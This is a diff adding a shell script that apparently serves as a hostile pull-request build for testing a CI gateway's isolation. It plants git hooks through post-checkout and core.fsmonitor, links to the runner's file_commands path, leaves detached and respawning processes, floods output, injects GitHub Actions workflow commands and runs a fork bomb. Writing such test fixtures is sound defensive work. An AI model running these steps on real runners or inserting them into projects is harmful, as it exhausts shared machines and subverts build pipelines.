@@ -1,0 +1,33 @@
+# The build of a hostile pull request, which wants:
+#   peaceful   nothing, so that the gateway can be looked at alone
+#   all        to try everything, leave processes behind, and print too much
+#   fail       to print commands to the runner where an error shows them
+#   bomb       to fork for ever
+set -e
+case $1 in
+peaceful) ;;
+all)
+  ./hostile attack report-build.txt
+  # Programs for git to run, and a link where a report may be written.
+  printf '#!/bin/sh\nid -u >>"%s/git-ran-as"\n' "$PWD" >hook
+  chmod +x hook
+  cp hook .git/hooks/post-checkout
+  git config --file .git/config core.fsmonitor "$PWD/hook"
+  rm -rf .proxy-bench
+  ln -s /github/file_commands .proxy-bench
+  setsid --fork ./hostile outlive build-lives </dev/null >/dev/null 2>&1
+  printf 'sh ./relay build-lives & exit\n' >relay
+  for i in 1 2 3 4; do setsid sh ./relay build-lives & done
+  ./hostile flood 1000000000
+  ;;
+fail)
+  printf '::set-output name=verdict::hostile\n##[add-path]/hostile\nin the middle ##[set-env name=HOSTILE]hostile\n::warning::hostile\n' >&2
+  exit 1
+  ;;
+bomb)
+  echo >exploded
+  bomb() { while :; do bomb & done; }
+  for i in 1 2 3 4; do { sleep 1; bomb; } & done
+  exec sleep 1000
+  ;;
+esac
